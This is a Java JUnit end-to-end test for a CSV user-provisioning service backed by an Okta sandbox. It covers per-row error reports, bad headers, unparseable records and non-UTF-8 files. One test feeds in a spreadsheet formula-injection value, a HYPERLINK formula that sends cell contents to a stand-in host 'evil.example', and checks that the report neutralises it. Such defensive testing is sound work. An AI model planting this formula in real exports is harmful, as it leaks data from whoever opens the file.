package dev.camelokta.examples.provisioning.csv;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.time.Duration;
import java.util.Comparator;
import java.util.List;
import java.util.Map;
import java.util.Random;

import dev.camelokta.examples.provisioning.ReportCsv;
import dev.camelokta.examples.provisioning.TestApplication;
import dev.camelokta.sandbox.OktaSandbox;
import dev.camelokta.sandbox.SandboxUser;
import dev.camelokta.sandbox.UserStatus;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.tuple;
import static org.awaitility.Awaitility.await;

/**
 * Example 1 end to end: CSV files dropped in the inbox of the running application, provisioned into the sandbox.
 */
class CsvProvisioningTest {

    private static final Duration PROCESSED = Duration.ofSeconds(60);
    private static final String HEADER = "first_name,last_name,email,login,mobile_phone,type_id,activate\n";

    @RegisterExtension
    static final TestApplication app = TestApplication.against(OktaSandbox.builder(),
            Map.of("provisioning.csv.parallelism", "4"));

    @Test
    void reportsEveryRowOnceWithTheUserIdOrTheErrorAndMovesTheFileToDone() throws IOException {
        app.okta().createUser(Map.of("firstName", "Grace", "lastName", "Hopper", "email", "grace@example.com",
                "login", "grace@example.com"));
        app.drop("team.csv", HEADER
                             + "Ada,Lovelace,ada@example.com,ada@example.com,+44 20 7946 0001,,\n"
                             + "Alan,Turing,alan@example.com,alan@example.com,,,false\n"
                             + "Grace,Hopper,grace.h@example.com,grace@example.com,,,\n"
                             + "Robin,,robin@example.com,robin@example.com,,,\n"
                             + "Tony,Hoare,tony.example.com,tony@example.com,,,\n"
                             + "Karen,Jones,karen@example.com,karen@example.com,+44 1223 555 129\n"
                             + "Carl,Adam,Petri,carl@example.com,carl@example.com,,,\n"
                             + "Edsger,Dijkstra,edsger@example.com,edsger@example.com,,,maybe\n"
                             + "Barbara,Liskov,barbara@example.com,barbara@example.com,,,\n");

        await().atMost(PROCESSED).until(() -> Files.exists(app.folder("done/team.csv")));

        assertThat(reportRows("team-report.csv")).containsExactly(
                List.of("1", "ada@example.com", "created", userId("ada@example.com"), "", ""),
                List.of("2", "alan@example.com", "created", userId("alan@example.com"), "", ""),
                List.of("3", "grace@example.com", "failed", "", "HTTP 400 E0000001 Api validation failed: login "
                        + "(login: An object with this field already exists in the current organization)", ""),
                List.of("4", "robin@example.com", "failed", "", "missing last_name", ""),
                List.of("5", "tony@example.com", "failed", "",
                        "invalid email 'tony.example.com': expected an address such as ada@example.com", ""),
                List.of("6", "karen@example.com", "failed", "", "wrong column count: 5 values for the 7 columns of the header", ""),
                List.of("7", "carl@example.com", "failed", "", "wrong column count: 8 values for the 7 columns of the header", ""),
                List.of("8", "edsger@example.com", "failed", "", "invalid activate 'maybe': use true or false, or leave it empty", ""),
                List.of("9", "barbara@example.com", "created", userId("barbara@example.com"), "", ""));
        assertThat(app.folder("inbox/team.csv")).doesNotExist();
        assertThat(user("ada@example.com").profileText("mobilePhone")).isEqualTo("+44 20 7946 0001");
        assertThat(user("alan@example.com").status()).isEqualTo(UserStatus.STAGED);
        assertThat(app.okta().users()).hasSize(4);
    }

    @ParameterizedTest
    @ValueSource(strings = { "no-header.csv", "unknown-column.csv", "missing-column.csv", "empty.csv", "binary.csv" })
    void movesAFileWithoutAUsersHeaderToErrorWithoutTouchingOkta(String fileName) throws IOException {
        long requestsBefore = app.okta().counters().totalRequests();
        app.drop(fileName, unreadable(fileName));

        await().atMost(PROCESSED).until(() -> Files.exists(app.folder("error/" + fileName)));

        assertThat(app.folder("outbox/" + ReportWriter.reportName(fileName))).doesNotExist();
        assertThat(app.folder("inbox/" + fileName)).doesNotExist();
        assertThat(app.okta().counters().totalRequests()).isEqualTo(requestsBefore);
    }

    @Test
    void reportsTheRowsBeforeARecordThatCannotBeParsedAndMovesTheFileToError() throws IOException {
        app.drop("broken.csv", HEADER
                               + "Linus,Torvalds,linus@example.com,linus@example.com,,,\n"
                               + "Bad,\"Quote\"x,bad@example.com,bad@example.com,,,\n"
                               + "Never,Read,never@example.com,never@example.com,,,\n");

        await().atMost(PROCESSED).until(() -> Files.exists(app.folder("error/broken.csv")));

        assertThat(reportRows("broken-report.csv")).containsExactly(
                List.of("1", "linus@example.com", "created", userId("linus@example.com"), "", ""));
        assertThat(app.okta().findByLogin("never@example.com")).isEmpty();
    }

    @Test
    void aFileThatIsNotUtf8GoesToErrorWithoutTouchingOktaWhereverTheBadByteIs() throws IOException {
        StringBuilder rows = new StringBuilder(HEADER);
        for (int row = 1; row <= 300; row++) { // far more than a decoder reads ahead of the parser
            rows.append("User,Number").append(row).append(",user").append(row).append("@example.com,user").append(row)
                    .append("@example.com,,,\n");
        }
        rows.append("José,García,jose@example.com,jose@example.com,,,\n");
        long requestsBefore = app.okta().counters().totalRequests();

        app.drop("latin1.csv", rows.toString().getBytes(StandardCharsets.ISO_8859_1));

        await().atMost(PROCESSED).until(() -> Files.exists(app.folder("error/latin1.csv")));
        assertThat(app.folder("outbox/latin1-report.csv")).doesNotExist();
        assertThat(app.okta().counters().totalRequests()).isEqualTo(requestsBefore);
        assertThat(app.okta().findByLogin("user1@example.com")).isEmpty();
    }

    @Test
    void noCellOfTheReportCanRunAsASpreadsheetFormula() throws IOException {
        app.drop("formulas.csv", HEADER
                                 + "Eve,Formula,eve.example.com,\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1)\",,,\n"
                                 + "Sum,Formula,sum.example.com,@SUM(A1:A9),,,\n"
                                 + "Plus,Formula,plus.example.com,+1 555 0100,,,\n"
                                 + "Minus,Formula,minus.example.com,-1,,,\n");

        await().atMost(PROCESSED).until(() -> Files.exists(app.folder("done/formulas.csv")));

        String note = "prefixed with ' so that a spreadsheet shows text, not a formula: login";
        assertThat(reportRows("formulas-report.csv")).extracting(row -> row.get(1), row -> row.get(5)).containsExactly(
                tuple("'=HYPERLINK(\"http://evil.example/?\"&A1)", note), tuple("'@SUM(A1:A9)", note),
                tuple("'+1 555 0100", note), tuple("'-1", note));
        assertThat(Files.readString(app.folder("outbox/formulas-report.csv"))).contains("\n2,\"'@SUM(A1:A9)\",failed,");
    }

    private static byte[] unreadable(String fileName) {
        String text = switch (fileName) {
            case "no-header.csv" -> "Ada,Lovelace,ada@example.com,ada@example.com,,,\n";
            case "unknown-column.csv" -> "first_name,surname,email,login\nAda,Lovelace,ada@example.com,ada@example.com\n";
            case "missing-column.csv" -> "first_name,last_name,email\nAda,Lovelace,ada@example.com\n";
            case "empty.csv" -> "";
            default -> null;
        };
        if (text != null) {
            return text.getBytes(StandardCharsets.UTF_8);
        }
        byte[] garbage = new byte[4096];
        new Random(42).nextBytes(garbage);
        return garbage;
    }

    private static List<List<String>> reportRows(String reportName) throws IOException {
        List<CSVRecord> records = ReportCsv.records(app.folder("outbox/" + reportName));
        assertThat(records.get(0).getParser().getHeaderNames()).containsExactly(ReportWriter.COLUMNS);
        return records.stream().map(CSVRecord::toList)
                .sorted(Comparator.comparingInt(row -> Integer.parseInt(row.get(0)))) // rows finish in any order
                .toList();
    }

    private static SandboxUser user(String login) {
        return app.okta().findByLogin(login)
                .orElseThrow(() -> new AssertionError("No user " + login + " in the sandbox"));
    }

    private static String userId(String login) {
        return user(login).id();
    }
}
